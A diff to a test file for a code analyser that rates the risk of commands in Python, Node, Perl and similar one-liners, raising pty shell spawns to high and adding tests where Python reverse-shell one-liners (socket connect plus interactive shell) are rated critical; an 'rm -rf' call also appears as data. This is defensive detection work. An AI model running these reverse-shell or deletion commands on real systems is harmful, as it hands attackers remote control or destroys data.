@@ -134,8 +134,9 @@ def test_corpus_interpreter_one_liners():
         ("import os\nos.execl('/bin/rm', 'rm', '-rf', '/x')", [("/bin/rm", "-rf", "/x")], [], L, False),
         ("import os\nos.execle('/bin/ls', 'ls', '-l', {})", [("/bin/ls", "-l")], [], L, False),
         ("import os\nos.spawnv(os.P_WAIT, '/bin/ls', ['ls', '-a'])", [("/bin/ls", "-a")], [], L, False),
-        ("import pty; pty.spawn('/bin/sh')", [("/bin/sh",)], [], L, False),
-        ("import pty; pty.spawn(['/bin/bash', '-i'])", [("/bin/bash", "-i")], [], L, False),
+        # a shell with no script reads what the code gives it (the reverse-shell TTY trick): high
+        ("import pty; pty.spawn('/bin/sh')", [("/bin/sh",)], [], Risk.HIGH, False),
+        ("import pty; pty.spawn(['/bin/bash', '-i'])", [("/bin/bash", "-i")], [], Risk.HIGH, False),
         ("import asyncio\nasyncio.create_subprocess_exec('ls', '-l')", [("ls", "-l")], [], L, False),
         ("import asyncio\nasyncio.create_subprocess_shell('ls | wc')", ["ls | wc"], [], L, False),
         ("import commands; commands.getoutput('uptime')", ["uptime"], [], L, False),
@@ -912,3 +913,16 @@ def test_perl_ruby_php_single_quoted_commands_round_trip(cmd):
     assert analyse_code("perl", f"system({quoted});").commands == (cmd,)
     assert analyse_code("ruby", f"system({quoted})").commands == (cmd,)
     assert analyse_code("php", f"system({quoted});").commands == (cmd,)
+
+
+@pytest.mark.parametrize("language, source, risk", [
+    ("python", 'import socket,subprocess,os;s=socket.socket();s.connect(("1.2.3.4",9));'
+               'os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])', Risk.CRITICAL),
+    ("python", 'import pty,socket,os;s=socket.socket();s.connect(("h",1));pty.spawn("/bin/bash")', Risk.CRITICAL),
+    ("node", 'require("child_process").spawn("/bin/sh")', Risk.HIGH),
+    ("python", 'import os; os.system("bash -c ls")', Risk.LOW),
+    ("python", 'import subprocess; subprocess.run(["sh", "-c", "make"])', Risk.LOW),
+])
+def test_a_shell_started_without_a_script(language, source, risk):
+    """A shell run with no command reads what the code gives it; with a socket, a reverse shell."""
+    assert analyse_code(language, source).risk is risk
